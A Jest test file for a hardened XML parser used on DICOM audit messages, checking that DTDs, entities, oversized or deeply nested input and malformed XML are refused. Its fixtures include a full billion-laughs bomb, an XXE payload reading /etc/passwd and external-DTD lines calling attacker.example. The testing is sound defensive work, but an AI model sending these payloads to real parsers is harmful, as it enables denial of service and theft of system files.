/**
 * XML hardening: billion laughs, XXE and any DTD are refused before parsing (fast, nothing expanded),
 * size and depth are bounded, only predefined entities and character references are decoded.
 */
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { AtnaError } from './atna-error';
import { decodeXmlReferences, parseUntrustedXml } from './safe-xml';
import { mapDicomAuditMessage } from './dicom-audit.mapper';

function codeOf(fn: () => unknown): string {
  try {
    fn();
  } catch (e) {
    if (e instanceof AtnaError) return e.code;
    throw e;
  }
  return 'no error';
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<AuditMessage><EventIdentification EventDateTime="&lol9;"/></AuditMessage>`;

describe('parseUntrustedXml', () => {
  // "Without expanding anything" is shown by what ran, not by a stopwatch (speed is bench:atna's
  // business): the refusal comes from the linear scan, before the XML validator or parser sees a byte.
  function xmlMachineryCalls(fn: () => unknown): number {
    const validate = jest.spyOn(XMLValidator, 'validate');
    const parse = jest.spyOn(XMLParser.prototype, 'parse');
    try {
      fn();
    } catch {
      /* the caller checks the error code separately */
    }
    const calls = validate.mock.calls.length + parse.mock.calls.length;
    validate.mockRestore(); // (restoring also forgets the calls)
    parse.mockRestore();
    return calls;
  }

  it('rejects a billion-laughs document before the XML validator or parser runs (nothing expanded)', () => {
    expect(codeOf(() => mapDicomAuditMessage(BILLION_LAUGHS))).toBe('xml-dtd-forbidden');
    expect(xmlMachineryCalls(() => mapDicomAuditMessage(BILLION_LAUGHS))).toBe(0);
    // The probe itself sees the machinery when it does run: a harmless document reaches both.
    expect(xmlMachineryCalls(() => parseUntrustedXml('<r a="1">x</r>'))).toBe(2);
  });

  it('rejects a billion-laughs document hidden after 60 KiB of white space the same way', () => {
    const padded = ' '.repeat(60 * 1024) + BILLION_LAUGHS;
    expect(codeOf(() => parseUntrustedXml(padded))).toBe('xml-dtd-forbidden');
    expect(xmlMachineryCalls(() => parseUntrustedXml(padded))).toBe(0);
  });

  it.each([
    ['an external entity (XXE)', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>'],
    ['an external DTD', '<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>'],
    ['a parameter entity', '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]><r/>'],
    ['a lower-case doctype', '<!doctype r><r/>'],
    ['a bare ENTITY declaration', '<r><!ENTITY a "b"></r>'],
  ])('rejects %s', (_what, xml) => {
    expect(codeOf(() => parseUntrustedXml(xml))).toBe('xml-dtd-forbidden');
  });

  it('leaves undeclared entity references unexpanded', () => {
    expect(parseUntrustedXml('<r a="&lol9;">&xxe;</r>')).toEqual({ r: { '@a': '&lol9;', '#text': '&xxe;' } });
  });

  it('decodes the predefined entities and character references once, never recursively', () => {
    expect(decodeXmlReferences('a&amp;b&lt;&gt;&quot;&apos;&#65;&#x42;')).toBe('a&b<>"\'AB');
    expect(decodeXmlReferences('&amp;lt;')).toBe('&lt;');
    expect(decodeXmlReferences('&#0;&#xD800;')).toBe('&#0;&#xD800;');
  });

  it('bounds the document size before reading it', () => {
    expect(codeOf(() => parseUntrustedXml(`<r>${'a'.repeat(70 * 1024)}</r>`))).toBe('xml-too-large');
    expect(codeOf(() => parseUntrustedXml('<r>abc</r>', { maxBytes: 5 }))).toBe('xml-too-large');
  });

  it('bounds nesting depth', () => {
    const deep = '<a>'.repeat(1000) + '</a>'.repeat(1000);
    expect(codeOf(() => parseUntrustedXml(deep))).toBe('xml-too-deep');
  });

  it('rejects malformed XML', () => {
    expect(codeOf(() => parseUntrustedXml('<r><a></r>'))).toBe('xml-malformed');
    expect(codeOf(() => parseUntrustedXml('not xml at all'))).toBe('xml-malformed');
  });

  it('accepts comments, CDATA, a BOM and namespace prefixes', () => {
    const xml = '\ufeff<?xml version="1.0"?><!-- note --><x:r xmlns:x="urn:x"><x:a>t<![CDATA[<b>]]></x:a></x:r>';
    expect(parseUntrustedXml(xml)).toEqual({ r: { a: 't<b>' } });
  });
});
